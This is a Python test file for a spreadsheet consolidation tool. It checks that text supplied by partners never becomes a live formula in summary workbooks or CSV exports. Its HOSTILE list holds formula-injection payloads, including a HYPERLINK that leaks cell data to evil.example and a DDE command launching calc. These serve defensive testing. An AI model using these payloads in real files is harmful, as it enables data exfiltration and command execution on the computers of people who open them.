"""The summary workbook and CSVs: no formula made from partner text, ever."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl

from tests.helpers import import_paths, orgs, write_filled
from xlsxkit.consolidate import consolidate
from xlsxkit.data import write_data
from xlsxkit.model import Framework
from xlsxkit.summary import write_summary
from xlsxkit.workbook import CellValue

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def hostile_return(framework: Framework, path: Path) -> Path:
    answers: dict[tuple[str, str], CellValue] = {}
    texts = iter(HOSTILE * 20)
    for c in framework.criteria:
        answers[(c.id, "stage")] = framework.stages[1].label
        answers[(c.id, "comment")] = next(texts)
        for a in c.actions:
            answers[(a.id, "notes")] = next(texts)
            answers[(a.id, "lead")] = next(texts)
    [org] = orgs("=Evil & Co")
    return write_filled(framework, path, org, answers)


def test_no_formula_anywhere_in_the_summary(framework: Framework, tmp_path: Path) -> None:
    inbox = tmp_path / "in"
    inbox.mkdir()
    hostile_return(framework, inbox / "=cmd.xlsx")
    (inbox / "-rf.csv").write_text("=1+1,@x\n+2,-3\n")
    result = import_paths(framework, inbox)
    summary = consolidate(framework, result)
    out = tmp_path / "summary.xlsx"
    write_summary(summary, out)
    # openpyxl marks a formula cell with data_type "f"; none may exist.
    wb = openpyxl.load_workbook(out)
    seen_hostile = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if cell.value in HOSTILE:
                    seen_hostile += 1
    assert seen_hostile > 20  # the partner's text is there, as text
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_csvs_neutralise_formula_text(framework: Framework, tmp_path: Path) -> None:
    inbox = tmp_path / "in"
    inbox.mkdir()
    hostile_return(framework, inbox / "x.xlsx")
    summary = consolidate(framework, import_paths(framework, inbox))
    files = write_data(summary, tmp_path / "data")
    checked = 0
    for path in (files.returns, files.stages, files.actions, files.problems):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            for field in row:
                assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, field)
                if field.startswith("'") and field[1:2] in ("=", "+", "-", "@", "\t", "\r"):
                    checked += 1
    assert checked > 20
    stages = list(csv.DictReader(io.StringIO(files.stages.read_text(encoding="utf-8-sig"))))
    assert stages[0]["org_name"] == "'=Evil & Co"
    assert stages[0]["stage_index"] == "2"


def test_summary_figures(framework: Framework, tmp_path: Path) -> None:
    inbox = tmp_path / "in"
    inbox.mkdir()
    north, south = orgs("North", "South")
    first = framework.criteria[0]
    a0, a1 = first.actions[0], first.actions[1]
    write_filled(
        framework,
        inbox / "n.xlsx",
        north,
        {(first.id, "stage"): framework.stages[0].label, (a0.id, "done"): True},
    )
    write_filled(
        framework, inbox / "s.xlsx", south, {(first.id, "stage"): framework.stages[2].label}
    )
    summary = consolidate(framework, import_paths(framework, inbox))
    counts = summary.criterion_stages[first.id]
    assert counts == {"not-well-developed": 1, "some-work-done": 0, "well-developed": 1, "": 0}
    assert summary.criterion_stages[framework.criteria[1].id][""] == 2
    assert summary.action_rates[a0.id].done == 1 and summary.action_rates[a0.id].rate == 0.5
    assert summary.actions_done == 1 and summary.actions_possible == 58
    # North is at stage 1 with a0 done, so its next step in that criterion is a1 only.
    steps = [(n.org_id, n.action_id) for n in summary.next_steps if n.criterion_id == first.id]
    assert ("north", a1.id) in steps and ("north", a0.id) not in steps
    south_steps = {
        n.action_id
        for n in summary.next_steps
        if n.org_id == "south" and n.criterion_id == first.id
    }
    assert south_steps == {a.id for a in first.actions}
    # Unassessed criteria are listed once, to be assessed first.
    assert sum(1 for n in summary.next_steps if n.org_id == "north" and not n.action_id) == 5
    people = framework.dimensions[0]
    assert summary.org_dimension_done[("north", people.id)] == 1 / len(people.actions)
